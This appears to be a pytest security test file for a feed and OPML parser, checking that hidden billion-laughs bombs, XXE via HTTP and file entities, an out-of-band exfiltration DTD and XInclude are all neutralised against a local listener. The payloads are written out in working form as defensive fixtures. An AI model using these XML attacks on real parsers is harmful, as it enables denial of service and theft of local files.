"""Hostile XML through ``parse_feed``, beyond tests/unit/test_xml_attacks.py (which covers billion
laughs, quadratic blowup and file XXE in the plain form).

Here: the same bombs hidden where the DOCTYPE pre-check does not look (after 64 KiB of comment,
processing instruction or whitespace, or in UTF-16), so the second layer (feedparser's DOCTYPE
rewrite and expat's defaults) must hold on its own; external entities and DTDs over HTTP, with an
out-of-band exfiltration pattern, against a real server that must never see a request; XInclude.
Bounded by output size and memory; the per-test timeout bounds time.
"""

from __future__ import annotations

import resource
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import orjson
import pytest

from producers.feeds import FeedListError, parse_opml
from producers.parse import DOCTYPE_SCAN_BYTES, defuse_doctype, parse_feed
from tests.integration.test_fetch import Site, send

RSS_HEADERS = {"content-type": "application/rss+xml"}
ITEM = b"<item><title>T %s</title><link>https://x.example/1</link><description>%s</description></item>"
PAD = DOCTYPE_SCAN_BYTES + 4096


def rss(doctype: bytes, title_ref: bytes, body_ref: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>\n' + prolog + doctype + b'\n<rss version="2.0"><channel><title>Attack</title>'
        + ITEM % (title_ref, body_ref) + b"</channel></rss>"
    )  # fmt: skip


def laughs_subset(root: bytes = b"rss") -> bytes:
    decls = [b'<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        decls.append(b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))))
    return b"<!DOCTYPE " + root + b" [" + b"\n".join(decls) + b"]>"


def _maxrss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _parse(body: bytes) -> tuple[bytes, list[str]]:
    result = parse_feed(body, url="https://x.example/feed", headers=RSS_HEADERS)
    assert result.articles, "the attack should not cost the feed its entries"
    return orjson.dumps(result.articles), result.notes


HIDDEN_BOMBS = {
    "after_a_long_comment": rss(laughs_subset(), b"&lol9;", b"&lol9;", b"<!--" + b"x" * PAD + b"-->"),
    "after_a_long_processing_instruction": rss(laughs_subset(), b"&lol9;", b"&lol9;", b"<?pad " + b"x" * PAD + b"?>"),
    "after_whitespace": rss(laughs_subset(), b"&lol9;", b"&lol9;", b" " * PAD),
    "utf16": rss(laughs_subset(), b"&lol9;", b"&lol9;")
    .replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="utf-16"?>')
    .decode()
    .encode("utf-16"),
    "atom": b'<?xml version="1.0"?>' + laughs_subset(b"feed") + b'<feed xmlns="http://www.w3.org/2005/Atom">'
    b'<title>A</title><entry><title>&lol9;</title><id>urn:x:1</id><link href="https://x.example/1"/>'
    b"<content>&lol9;</content></entry></feed>",
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("name", sorted(HIDDEN_BOMBS))
def test_entity_bombs_the_pre_check_cannot_see_still_do_not_expand(name: str) -> None:
    body = HIDDEN_BOMBS[name]
    if name != "atom":
        assert defuse_doctype(body)[1] is None, "this variant is meant to slip past the pre-check"
    before = _maxrss_mb()
    out, _ = _parse(body)
    assert b"lollol" not in out
    assert len(out) < 2 * len(body) + 10_000
    assert _maxrss_mb() - before < 100


@pytest.fixture
def listener() -> Iterator[Site]:
    """A server an XML parser would contact if it resolved external entities; it must stay idle."""
    site = Site().start()
    site.routes["/*"] = lambda r: send(r, 200, b'<!ENTITY leaked "LEAKED-FROM-THE-NETWORK">')
    yield site
    site.stop()


def _network_variants(base: str, secret: Path) -> dict[str, bytes]:
    b, s = base.encode(), secret.as_uri().encode()
    oob = (
        b'<!DOCTYPE rss [<!ENTITY % file SYSTEM "' + s + b'">'
        b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" + b + b"/oob?d=%file;'>\"> %eval; %exfil;]>"
    )
    padding = b"<!--" + b"x" * PAD + b"-->"
    return {
        "general_http": rss(b'<!DOCTYPE rss [<!ENTITY e SYSTEM "' + b + b'/general">]>', b"&e;", b"&e;"),
        "parameter_http": rss(b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "' + b + b'/param"> %p;]>', b"&leaked;", b"b"),
        "external_dtd_http": rss(b'<!DOCTYPE rss SYSTEM "' + b + b'/evil.dtd">', b"&leaked;", b"b"),
        "public_dtd_http": rss(b'<!DOCTYPE rss PUBLIC "-//X//Y" "' + b + b'/evil.dtd">', b"&leaked;", b"b"),
        "out_of_band": rss(oob, b"a", b"b"),
        "hidden_general_http": rss(b'<!DOCTYPE rss [<!ENTITY e SYSTEM "' + b + b'/hidden">]>', b"&e;", b"&e;", padding),
        "hidden_file": rss(b'<!DOCTYPE rss [<!ENTITY e SYSTEM "' + s + b'">]>', b"&e;", b"&e;", padding),
        "xinclude": b'<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
        b"<channel><title>A</title><item><title>T</title><link>https://x.example/1</link><description>"
        b'<xi:include href="' + s + b'" parse="text"/><xi:include href="' + b + b'/xi" parse="text"/>'
        b"</description></item></channel></rss>",
    }


def test_external_entities_never_reach_the_network_or_files(listener: Site, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT-1234\n")
    for name, body in _network_variants(listener.url(""), secret).items():
        out, _ = _parse(body)
        assert b"TOP-SECRET" not in out, name
        assert b"LEAKED-FROM-THE-NETWORK" not in out, name
        assert listener.hits == {}, f"{name}: the parser made a request: {listener.hits}"
    # The listener does see requests: had a parser fetched anything, the loop above would have failed.
    with urllib.request.urlopen(listener.url("/probe"), timeout=5) as response:
        assert b"LEAKED" in response.read()
    assert listener.hits == {"/probe": 1}


def test_opml_import_refuses_a_bomb_hidden_past_the_pre_check() -> None:
    """OPML goes through ElementTree, not feedparser: expat's amplification limit is the layer that holds."""
    opml = (
        b'<?xml version="1.0"?><!--' + b"x" * PAD + b"-->" + laughs_subset(b"opml")
        + b'<opml version="2.0"><body><outline text="&lol9;" xmlUrl="https://x.example/&lol9;"/></body></opml>'
    )  # fmt: skip
    before = _maxrss_mb()
    with pytest.raises(FeedListError, match="amplification"):
        parse_opml(opml)
    assert _maxrss_mb() - before < 100
